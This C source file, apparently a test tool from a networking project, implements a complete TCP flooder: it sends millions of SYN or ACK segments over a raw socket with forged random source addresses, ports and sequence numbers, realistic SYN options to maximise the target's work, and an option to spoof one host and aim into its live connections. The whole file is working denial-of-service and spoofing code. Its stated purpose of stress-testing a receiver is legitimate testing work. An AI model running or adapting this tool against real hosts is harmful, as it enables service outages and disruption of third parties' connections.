/* SPDX-License-Identifier: ISC */
/*
 * flood.c - SYNs or ACKs by the million from addresses that do not exist, as an attacker sends them
 *
 * usage: flood [-a SOURCE] [-p FIRST-LAST] syn|ack ADDRESS PORT COUNT RATE [SEED]
 *
 * Sends COUNT segments to ADDRESS and PORT, RATE a second (0: as fast as they can be made). Source addresses
 * (from 11.0.0.0 to 126.255.255.255), source ports, sequence numbers, and for ack acknowledgement numbers are
 * random: nearly every segment is of another connection. The same SEED gives the same segments. A SYN has
 * the options that hosts use, so that answering it is as much work as answering a real one.
 *
 * -a forges all of them in the name of one host, -p with source ports of this range: where that host has connections
 * with these ports, the segments are in the middle of them.
 *
 * At the end it prints what was sent. The kernel may lose segments behind the socket: what has arrived, the
 * receiver must say.
 *
 * Needs a raw socket (root). Part of the tests, never installed.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <inttypes.h>
#include <netinet/in.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include "../unit/random.h"

enum {
	IP_HEADER = 20,
	TCP_HEADER = 20,
	OPTIONS = 20,
	PACKET_MAX = IP_HEADER + TCP_HEADER + OPTIONS,
	BATCH = 64,		/* segments in one system call */
	SYN = 0x02,
	ACK = 0x10,
};

#define NANOSECONDS INT64_C(1000000000)

/** struct flood - what is to be sent */
struct flood {
	int fd;
	bool is_syn;
	struct sockaddr_in to;
	uint16_t port;
	uint32_t source;	/* 0: a random one */
	uint64_t first_port;
	uint64_t last_port;
	uint64_t count;
	uint64_t rate;
	uint64_t seed;
};

static int64_t clock_now(void)
{
	struct timespec now;

	clock_gettime(CLOCK_MONOTONIC, &now);
	return now.tv_sec * NANOSECONDS + now.tv_nsec;
}

static void put16(uint8_t *at, uint32_t value)
{
	at[0] = (uint8_t)(value >> 8);
	at[1] = (uint8_t)value;
}

static void put32(uint8_t *at, uint32_t value)
{
	put16(at, value >> 16);
	put16(at + 2, value);
}

/** sum16() - the words of the internet checksum, added */
static uint32_t sum16(const uint8_t *bytes, size_t length)
{
	uint32_t sum = 0;

	for (size_t i = 0; i < length; i += 2)
		sum += (uint32_t)bytes[i] << 8 | bytes[i + 1];
	return sum;
}

static size_t packet_length(const struct flood *flood)
{
	return IP_HEADER + TCP_HEADER + (flood->is_syn ? OPTIONS : 0);
}

/** prepare() - all that is the same in every packet; the kernel adds identification and header checksum */
static void prepare(const struct flood *flood, uint8_t *packet)
{
	/* MSS 1460, SACK permitted, timestamps, window scale 7 */
	static const uint8_t options[OPTIONS] = { 2, 4, 0x05, 0xb4, 4, 2, 8, 10, 0, 0, 0, 1, 0, 0, 0, 0, 1, 3, 3, 7 };
	uint8_t *tcp = packet + IP_HEADER;

	memset(packet, 0, PACKET_MAX);
	packet[0] = 0x45;
	packet[8] = 64;
	packet[9] = IPPROTO_TCP;
	put32(packet + 16, ntohl(flood->to.sin_addr.s_addr));
	put16(tcp + 2, flood->port);
	tcp[12] = (uint8_t)((packet_length(flood) - IP_HEADER) / 4 << 4);
	tcp[13] = flood->is_syn ? SYN : ACK;
	put16(tcp + 14, 64240);
	if (flood->is_syn)
		memcpy(tcp + TCP_HEADER, options, OPTIONS);
}

/** vary() - make it the segment of another connection */
static void vary(const struct flood *flood, uint8_t *packet, uint64_t *random)
{
	uint8_t *tcp = packet + IP_HEADER;
	size_t length = packet_length(flood) - IP_HEADER;
	uint32_t first = 11 + random_below(random, 116), below = random_next(random) >> 8;
	uint32_t ports = (uint32_t)(flood->last_port - flood->first_port + 1);
	uint32_t sum;

	put32(packet + 12, flood->source ? flood->source : first << 24 | below);
	put16(tcp, (uint32_t)flood->first_port + random_below(random, ports));
	put32(tcp + 4, random_next(random));
	if (!flood->is_syn)
		put32(tcp + 8, random_next(random));
	put16(tcp + 16, 0);
	sum = sum16(packet + 12, 8) + IPPROTO_TCP + (uint32_t)length + sum16(tcp, length);
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	put16(tcp + 16, ~sum);
}

/** wait_for_turn() - sleep until @sent segments may have been sent */
static void wait_for_turn(const struct flood *flood, int64_t start, uint64_t sent)
{
	int64_t due = start + (int64_t)(sent * (uint64_t)NANOSECONDS / flood->rate);
	struct timespec until = { .tv_sec = due / NANOSECONDS, .tv_nsec = due % NANOSECONDS };

	while (clock_nanosleep(CLOCK_MONOTONIC, TIMER_ABSTIME, &until, NULL) == EINTR)
		continue;
}

/** send_all() - every one of @count messages; false on error */
static bool send_all(int fd, struct mmsghdr *messages, unsigned int count)
{
	unsigned int done = 0;

	while (done < count) {
		int n = sendmmsg(fd, messages + done, count - done, 0);

		if (n > 0)
			done += (unsigned int)n;
		else if (errno != EINTR && errno != ENOBUFS && errno != EAGAIN)
			return false;
	}
	return true;
}

static bool run(const struct flood *flood)
{
	static uint8_t packets[BATCH][PACKET_MAX];
	static struct iovec pieces[BATCH];
	static struct mmsghdr messages[BATCH];
	uint64_t random = flood->seed, sent = 0;
	int64_t start = clock_now();
	double seconds;

	for (size_t i = 0; i < BATCH; i++) {
		prepare(flood, packets[i]);
		pieces[i] = (struct iovec){ packets[i], packet_length(flood) };
		messages[i].msg_hdr = (struct msghdr){ .msg_iov = &pieces[i], .msg_iovlen = 1 };
	}
	while (sent < flood->count) {
		uint64_t left = flood->count - sent;
		unsigned int batch = left < BATCH ? (unsigned int)left : BATCH;

		for (unsigned int i = 0; i < batch; i++)
			vary(flood, packets[i], &random);
		if (!send_all(flood->fd, messages, batch)) {
			perror("flood: sendmmsg");
			return false;
		}
		sent += batch;
		if (flood->rate > 0)
			wait_for_turn(flood, start, sent);
	}
	seconds = (double)(clock_now() - start) / (double)NANOSECONDS;
	printf("sent %" PRIu64 " %ss in %.2f s, %.0f/s, seed %" PRIu64 "\n", sent, flood->is_syn ? "SYN" : "ACK",
	       seconds, (double)sent / seconds, flood->seed);
	return true;
}

/** number() - a decimal number of at most @most; false if it is not */
static bool number(const char *text, uint64_t most, uint64_t *value)
{
	char *end;

	errno = 0;
	*value = strtoull(text, &end, 10);
	return *text >= '0' && *text <= '9' && *end == '\0' && errno == 0 && *value <= most;
}

/** port_range() - two ports with a "-" between */
static bool port_range(char *text, uint64_t *first, uint64_t *last)
{
	char *dash = strchr(text, '-');

	if (!dash)
		return false;
	*dash = '\0';
	return number(text, 65535, first) && number(dash + 1, 65535, last) && *first <= *last;
}

static bool parse_options(int argc, char *argv[], struct flood *flood)
{
	struct in_addr source;
	int option;

	while ((option = getopt(argc, argv, "a:p:")) != -1) {
		if (option == 'a' && inet_pton(AF_INET, optarg, &source) == 1)
			flood->source = ntohl(source.s_addr);
		else if (option != 'p' || !port_range(optarg, &flood->first_port, &flood->last_port))
			return false;
	}
	return true;
}

static bool parse(int argc, char *argv[], struct flood *flood)
{
	uint64_t port;

	*flood = (struct flood){
		.to = { .sin_family = AF_INET },
		.first_port = 1024,
		.last_port = 65535,
		.seed = (uint64_t)clock_now(),
	};
	if (!parse_options(argc, argv, flood))
		return false;
	argc -= optind;
	argv += optind;
	if (argc < 5 || argc > 6)
		return false;
	flood->is_syn = strcmp(argv[0], "syn") == 0;
	if (!flood->is_syn && strcmp(argv[0], "ack") != 0)
		return false;
	if (inet_pton(AF_INET, argv[1], &flood->to.sin_addr) != 1 || !number(argv[2], 65535, &port))
		return false;
	flood->port = (uint16_t)port;
	return number(argv[3], UINT32_MAX, &flood->count) && number(argv[4], UINT32_MAX, &flood->rate) &&
	       (argc == 5 || number(argv[5], UINT64_MAX, &flood->seed));
}

int main(int argc, char *argv[])
{
	struct flood flood;

	if (!parse(argc, argv, &flood)) {
		fprintf(stderr, "usage: flood [-a SOURCE] [-p FIRST-LAST] syn|ack ADDRESS PORT COUNT RATE [SEED]\n");
		return 2;
	}
	flood.fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	if (flood.fd < 0 || connect(flood.fd, (struct sockaddr *)&flood.to, sizeof(flood.to)) < 0) {
		perror("flood: raw socket");
		return 1;
	}
	return run(&flood) ? 0 : 1;
}
